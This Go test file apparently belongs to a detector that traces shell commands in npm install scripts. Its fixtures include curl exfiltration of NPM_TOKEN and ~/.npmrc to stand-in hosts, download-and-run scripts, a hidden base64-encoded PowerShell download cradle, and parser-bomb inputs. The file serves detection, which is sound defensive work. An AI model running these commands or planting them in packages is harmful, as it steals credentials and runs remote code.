package shell_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"encoding/base64"
	"encoding/json"

	"github.com/google/go-cmp/cmp"

	"github.com/donapi/donapi/internal/behavior"
	"github.com/donapi/donapi/internal/callseq"
	"github.com/donapi/donapi/internal/report"
	"github.com/donapi/donapi/internal/shell"
	"github.com/donapi/donapi/knowledge"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func reader(tb testing.TB) *shell.Reader {
	tb.Helper()
	base, err := behavior.Load(knowledge.FS())
	if err != nil {
		tb.Fatal(err)
	}
	r, err := shell.Load(knowledge.FS(), base)
	if err != nil {
		tb.Fatal(err)
	}
	return r
}

func source(text string) shell.Source {
	return shell.Source{Text: callseq.Value{Kind: callseq.String, Text: text}, Phase: callseq.PhaseInstall}
}

// compact writes a trace in one line a call: number, name, arguments, types, and the calls that flow into it.
func compact(t *callseq.Trace, codes []shell.Code, out report.Outcome) string {
	var b strings.Builder
	for i := range t.Calls {
		c := &t.Calls[i]
		fmt.Fprintf(&b, "  %d %s", c.ID, c.API)
		for j := range c.Args {
			fmt.Fprintf(&b, " %q", c.Args[j].Pattern("*"))
		}
		fmt.Fprintf(&b, " %v", c.Types)
		seen := map[string]bool{}
		var flows []string
		for j := range c.Args {
			for _, f := range c.Args[j].AllFlows() {
				s := fmt.Sprintf("%d:%s", f.From, f.Via)
				if !seen[s] {
					seen[s] = true
					flows = append(flows, s)
				}
			}
		}
		if len(flows) > 0 {
			fmt.Fprintf(&b, " <- %s", strings.Join(flows, " "))
		}
		for _, g := range c.Guards {
			fmt.Fprintf(&b, " if%d=%v", g.Cond, g.Taken)
		}
		if c.Cause != 0 {
			fmt.Fprintf(&b, " in %d", c.Cause)
		}
		b.WriteByte('\n')
	}
	for _, c := range codes {
		fmt.Fprintf(&b, "  code %s by %d: %q\n", c.Lang, c.By, c.Text)
	}
	if out.Status != report.Ran {
		fmt.Fprintf(&b, "  %s: %s\n", out.Status, out.Reason)
	}
	return b.String()
}

// TestGolden reads testdata/*.txt: blocks of "### LANG" and a text, each followed after "---" by its compact trace.
func TestGolden(t *testing.T) {
	r := reader(t)
	files, _ := filepath.Glob("testdata/*.txt")
	count := 0
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		var all strings.Builder
		for _, block := range strings.Split("\n"+string(data), "\n### ")[1:] {
			count++
			head, rest, _ := strings.Cut(block, "\n")
			text, want, _ := strings.Cut(rest, "\n---\n")
			text, want = strings.TrimSuffix(text, "\n---"), strings.TrimRight(want, "\n")
			src := source(text)
			if src.Lang = head; head == "auto" {
				src.Lang = ""
			}
			tr, codes, out := r.Read(src)
			got := strings.TrimRight(compact(tr, codes, out), "\n")
			if got != want && !*update {
				t.Errorf("%s: %s\n%s", file, text, cmp.Diff(want, got))
			}
			checkTrace(t, text, tr)
			fmt.Fprintf(&all, "### %s\n%s\n---\n%s\n\n", head, text, got)
		}
		if *update {
			if err := os.WriteFile(file, []byte(strings.TrimRight(all.String(), "\n")+"\n"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	if count < 120 {
		t.Errorf("only %d command lines, want 120", count)
	}
}

// checkTrace holds what every trace promises.
func checkTrace(tb testing.TB, text string, t *callseq.Trace) {
	tb.Helper()
	for i := range t.Calls {
		c := &t.Calls[i]
		if int(c.ID) != i+1 || c.Cause >= c.ID || c.Pos.Layer < 0 || c.Pos.Layer >= len(t.Layers) || c.Origin != callseq.Shell || !slices.IsSorted(c.Types) {
			tb.Errorf("%.200q: call %d is broken: %+v", text, i+1, c)
		}
		for j := range c.Args {
			for _, f := range c.Args[j].AllFlows() {
				if int(f.From) > len(t.Calls) || f.From == 0 {
					tb.Errorf("%.200q: call %d has a flow from %d", text, i+1, f.From)
				}
			}
		}
	}
}

// TestPartlyKnown reads a command line that code builds from what it knows and what it does not.
func TestPartlyKnown(t *testing.T) {
	r := reader(t)
	secret := callseq.Flow{From: -7, Via: callseq.Copy}
	tr, _, _ := r.Read(shell.Source{By: 9, Text: callseq.Value{Kind: callseq.String, Parts: []callseq.Part{
		{Lit: "curl 'https://drop.invalid/?d="}, {Hole: true, Source: "process.env.NPM_TOKEN", Flows: []callseq.Flow{secret}}, {Lit: "' | sh"},
	}}})
	if len(tr.Calls) < 2 || tr.Calls[0].API != "$shell.curl" {
		t.Fatalf("got %+v", tr.Calls)
	}
	if got := tr.Calls[0].Args[0].Pattern("<>"); got != "https://drop.invalid/?d=<>" {
		t.Errorf("destination %q", got)
	}
	if !slices.Contains(tr.Calls[0].Args[0].AllFlows(), secret) {
		t.Errorf("the secret does not flow into %+v", tr.Calls[0].Args[0])
	}
	if !slices.Contains(tr.Calls[1].Types, "SHELL_DOWNLOAD_EXECUTE") {
		t.Errorf("sh has types %v", tr.Calls[1].Types)
	}
	outer := &callseq.Trace{Calls: make([]callseq.Call, 10)}
	outer.Append(tr)
	if by := outer.Layers[0].By; by != 9 {
		t.Errorf("the layer was made by %d, want 9", by)
	}
}

// TestFiles follows commands into the files of a package.
func TestFiles(t *testing.T) {
	files := map[string]string{
		"run.sh": "curl -o x http://load.invalid/x\n./x $1\n", "pre.bat": "curl http://load.invalid/y.exe -o y.exe\r\nstart /B y.exe\r\n",
		"a.py": "import os\nos.system('./run.sh')\n",
	}
	src := source("/bin/bash run.sh now; cmd.exe /c pre.bat; python3 ./a.py")
	src.Files = func(p string) ([]byte, bool) { s, ok := files[p]; return []byte(s), ok }
	tr, _, _ := reader(t).Read(src)
	n := 0
	for i := range tr.Calls {
		if slices.Contains(tr.Calls[i].Types, "SHELL_DOWNLOAD_EXECUTE") {
			n++
		}
	}
	if n != 3 {
		t.Errorf("%d downloads run, want 3\n%s", n, compact(tr, nil, report.Outcome{}))
	}
}

func TestUnknownCommand(t *testing.T) {
	tr, _, _ := reader(t).Read(shell.Source{Text: callseq.Value{Kind: callseq.Unknown, Source: "x", Flows: []callseq.Flow{{From: -3, Via: callseq.Copy}}}})
	if len(tr.Calls) != 1 || !slices.Contains(tr.Calls[0].Types, "PROCESS_COMMAND_EXECUTION") {
		t.Errorf("got %+v", tr.Calls)
	}
}

func TestEncodedCommand(t *testing.T) {
	var b []byte
	for _, u := range utf16.Encode([]rune("IEX (New-Object Net.WebClient).DownloadString('http://load.invalid/a.ps1')")) {
		b = append(b, byte(u), byte(u>>8))
	}
	tr, _, _ := reader(t).Read(source("powershell -nop -w hidden -enc " + base64.StdEncoding.EncodeToString(b)))
	var all []string
	for i := range tr.Calls {
		all = append(all, tr.Calls[i].Types...)
	}
	for _, want := range []string{"SHELL_DECODE_EXECUTE", "STEALTH_HIDDEN", "SHELL_DOWNLOAD_EXECUTE", "NETWORK_IN"} {
		if !slices.Contains(all, want) {
			t.Errorf("no %s in %v", want, all)
		}
	}
}

func TestCommands(t *testing.T) {
	r := reader(t)
	for _, c := range []struct {
		script string
		want   [][]string
	}{
		{"node scripts/build.js && ./install.sh --now", [][]string{{"node", "scripts/build.js"}, {"./install.sh", "--now"}}},
		{"cross-env NODE_ENV=production node a.js", [][]string{{"node", "a.js"}}},
		{"cd lib; sh x.sh || true", [][]string{{"cd", "lib"}, {"sh", "x.sh"}}},
		{`sh -c "node inner.js"`, [][]string{{"sh", "-c", "node inner.js"}}},
		{"X=node; $X a.js $Y", [][]string{{"node", "a.js", "*"}}},
		{"if exist x (node a.js) else node b.js", [][]string{{"node", "a.js"}, {"node", "b.js"}}},
		{"start /B node a.js & node a.js", [][]string{{"node", "a.js"}, {"node", "a.js"}}},
		{"npm run build > /dev/null 2>&1", [][]string{{"npm", "run", "build"}}},
	} {
		if diff := cmp.Diff(c.want, r.Commands(c.script)); diff != "" {
			t.Errorf("%s\n%s", c.script, diff)
		}
	}
}

// TestHostile gives the reader what kills a naive one.
func TestHostile(t *testing.T) {
	r := reader(t)
	double := "a=xxxxxxxxxxxxxxxx;" + strings.Repeat("a=$a$a;", 200) + "curl $a"
	for name, text := range map[string]string{
		"substitutions": strings.Repeat("$(", 500_000),
		"backquotes":    strings.Repeat("`\\", 300_000),
		"braces":        strings.Repeat("{", 500_000),
		"parentheses":   strings.Repeat("(", 900_000),
		"comments":      strings.Repeat("$( #)\n", 100_000),
		"if":            strings.Repeat("if ", 300_000),
		"and":           strings.Repeat("a&&", 300_000) + "a",
		"pipes":         strings.Repeat("a|", 400_000) + "a",
		"pipes below":   strings.Repeat("a|", 9_000) + "a",
		"nested below":  strings.Repeat("$(", 9_000) + strings.Repeat(")", 9_000),
		"parameters":    strings.Repeat("${a:-", 9_000) + strings.Repeat("}", 9_000),
		"doubling":      double,
		"recursion":     "f(){ f; f; }; f",
		"mutual":        "f(){ g; g; }; g(){ f; f; }; f",
		"eval":          `x='eval "$x";eval "$x"'; eval "$x"`,
		"alias":         "alias a='b b' b='a a'; a",
		"brace bomb":    "echo " + strings.Repeat("{a,b}", 60),
		"sequence":      "echo {1..1000000000}",
		"loops":         strings.Repeat("for i in a b c d; do ", 12) + "curl x;" + strings.Repeat("done;", 12),
		"power":         "powershell -c \"" + strings.Repeat("(", 100_000) + "\"",
		"python":        "python -c '" + strings.Repeat("f(", 100_000) + "'",
		"python flat":   "python -c '" + strings.Repeat("x=os.getcwd()\n", 60_000) + "'",
		"percent":       strings.Repeat("%A", 400_000) + "%",
		"set":           strings.Repeat("set a=%a%%a%x\n", 300),
		"printf":        "printf '" + strings.Repeat("%s", 5000) + "' " + strings.Repeat("a ", 5000),
		"here":          strings.Repeat("cat <<a\n", 20_000),
		"shells":        strings.Repeat("sh -c \"", 2000),
		"nul":           "curl \x00\xff\xfe http://a.invalid",
		"holes":         "curl \U000F0000\U000F0001",
		"replace":       "a=aaaaaaaaaaaaaaaa;" + strings.Repeat("a=${a//a/aaaaaaaa};", 60) + "curl $a",
		"xargs":         strings.Repeat("xargs ", 20_000) + "curl",
	} {
		t.Run(name, func(t *testing.T) {
			tr, _, _ := r.Read(source(text))
			checkTrace(t, name, tr)
		})
	}
}

func TestDeterministic(t *testing.T) {
	r := reader(t)
	text := "f(){ whoami; }; g(){ id; }; h(){ hostname; }; a=$(cat ~/.npmrc); env | curl -d @- -H \"x: $a\" http://a.invalid; python -c 'requests.post(\"http://b.invalid\", data={\"a\": os.getcwd(), \"b\": socket.gethostname(), \"c\": 1})'"
	a, ac, ao := r.Read(source(text))
	for range 20 {
		b, bc, bo := r.Read(source(text))
		if diff := cmp.Diff(compact(a, ac, ao), compact(b, bc, bo)); diff != "" {
			t.Fatal(diff)
		}
	}
}

// TestOrdinary reads every script of the ordinary packages of a corpus, if there is one: all must be read whole.
func TestOrdinary(t *testing.T) {
	root := os.Getenv("DONAPI_CORPUS")
	if root == "" {
		t.Skip("no corpus: set DONAPI_CORPUS to a folder with benign/")
	}
	r := reader(t)
	scripts := ordinaryScripts(t, root)
	if len(scripts) < 500 {
		t.Fatalf("only %d scripts below %s", len(scripts), root)
	}
	odd := map[string]int{}
	for _, s := range scripts {
		tr, _, out := r.Read(source(s))
		checkTrace(t, s, tr)
		if out.Status != report.Ran {
			t.Errorf("%s: %s", s, out.Reason)
		}
		for i := range tr.Calls {
			for _, ty := range tr.Calls[i].Types {
				switch ty {
				case "REVERSE_SHELL", "SHELL_EXFILTRATION", "SHELL_DOWNLOAD_EXECUTE", "SHELL_DECODE_EXECUTE", "DESTROY":
					odd[ty]++
					t.Logf("%s: %s", ty, s)
				}
			}
		}
	}
	t.Logf("%d scripts, telling types: %v", len(scripts), odd)
}

func BenchmarkOrdinary(b *testing.B) {
	r := reader(b)
	scripts := []string{
		"npm run clean && npm run build", "eslint . --ext .js,.ts && tsc -p .", "rm -rf dist && cross-env NODE_ENV=production rollup -c",
		"if [ ! -d 'dist' ]; then pnpm build; fi", "node install.js || echo skipped", "cat ./coverage/lcov.info | coveralls",
	}
	for b.Loop() {
		for _, s := range scripts {
			r.Read(source(s))
		}
	}
	b.ReportMetric(float64(b.N*len(scripts))/b.Elapsed().Seconds(), "scripts/s")
}

func FuzzRead(f *testing.F) {
	r := reader(f)
	files, _ := filepath.Glob("testdata/*.txt")
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			f.Fatal(err)
		}
		for _, block := range strings.Split("\n"+string(data), "\n### ")[1:] {
			head, rest, _ := strings.Cut(block, "\n")
			text, _, _ := strings.Cut(rest, "\n---")
			f.Add(text, head)
		}
	}
	f.Fuzz(func(t *testing.T, text, lang string) {
		switch lang {
		case "sh", "cmd", "powershell", "python", "perl", "ruby", "php":
		default:
			lang = ""
		}
		src := source(text)
		src.Lang = lang
		tr, _, _ := r.Read(src)
		checkTrace(t, text, tr)
	})
}

func ordinaryScripts(tb testing.TB, root string) []string {
	tb.Helper()
	files, err := filepath.Glob(filepath.Join(root, "benign", "*", "package.json"))
	if err != nil {
		tb.Fatal(err)
	}
	seen := map[string]bool{}
	var out []string
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		var m struct {
			Scripts map[string]any `json:"scripts"`
		}
		if json.Unmarshal(data, &m) != nil {
			continue
		}
		for _, v := range m.Scripts {
			if s, ok := v.(string); ok && !seen[s] {
				seen[s] = true
				out = append(out, s)
			}
		}
	}
	slices.Sort(out)
	return out
}
